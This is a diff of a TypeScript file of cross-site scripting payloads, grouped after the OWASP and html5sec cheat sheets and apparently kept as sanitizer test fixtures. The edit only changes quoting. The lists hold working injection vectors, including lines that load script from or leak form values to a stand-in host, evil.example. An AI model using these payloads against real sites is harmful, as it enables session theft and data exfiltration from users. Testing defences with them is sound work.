@@ -6,7 +6,7 @@ export const owaspAttacks: Readonly<Record<string, readonly string[]>> = {
   'locator and polyglots': [
     `';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
     `'';!--"<XSS>=&{()}`,
-    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
     '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
   ],
   'images with a directive': [
@@ -88,9 +88,9 @@ export const owaspAttacks: Readonly<Record<string, readonly string[]>> = {
     '<svg><script x:href="https://evil.example/x.js"></script>',
     '<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;(1)</script>',
     '<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-"></iframe>',
-    '<div/onmouseover=\'alert(1)\'>x</div>',
+    "<div/onmouseover='alert(1)'>x</div>",
     '<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa href=j&#97v&#97script&#x3A;&#97lert(1)>x',
-    '<///style///><span %2F onmousemove=\'alert&lpar;1&rpar;\'>x</span>',
+    "<///style///><span %2F onmousemove='alert&lpar;1&rpar;'>x</span>",
     '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;">',
     '<sVg><scRipt %00>alert&lpar;1&rpar; {Opera}',
     '<var onmouseover="prompt(1)">x</var>',
@@ -133,12 +133,12 @@ export const html5secAttacks: Readonly<Record<string, readonly string[]>> = {
   ],
   'style sheets': [
     '<a style="-o-link:\'javascript:alert(1)\';-o-link-source:current">x</a>',
-    '<style>p[foo=bar{}*{-o-link:\'javascript:alert(1)\'}{}*{-o-link-source:current}*{background:red}]{color:green};</style>',
+    "<style>p[foo=bar{}*{-o-link:'javascript:alert(1)'}{}*{-o-link-source:current}*{background:red}]{color:green};</style>",
     '<div style="font-family:\'foo&#10;;color:red;\';">x</div>',
     '<div style="list-style:url(https://f)\\20url(javascript:alert(1));">x</div>',
     '<div style="x:\\65\\78pression(alert(1))">x</div>',
     '<div style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'javascript:alert(1)\')">x</div>',
-    '<style>*[{}@import\'x.css?]{color:green;}</style>',
+    "<style>*[{}@import'x.css?]{color:green;}</style>",
     '<style>input[value^="a"]{background:url(https://evil.example/a)}@font-face{font-family:x;src:url(https://evil.example/x)}</style>',
     '<div style="position:absolute;opacity:0;inset:0"><a href="https://evil.example">x</a></div>',
     '<svg><style>&lt;img src=x onerror=alert(1)&gt;</svg>',
@@ -154,7 +154,7 @@ export const html5secAttacks: Readonly<Record<string, readonly string[]>> = {
     '<svg><g><title><style></title><img src=x onerror=alert(1)></style></g></svg>',
     '<math><mi><table><mglyph><nolink><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
   ],
-  'SVG': [
+  SVG: [
     '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a><circle r=100 /><animate attributeName="xlink:href" values=";javascript:alert(1)" begin="0s" dur="0.1s" fill="freeze"/></a></svg>',
     '<svg><image xlink:href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
     '<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml,x"/></feImage></svg>',
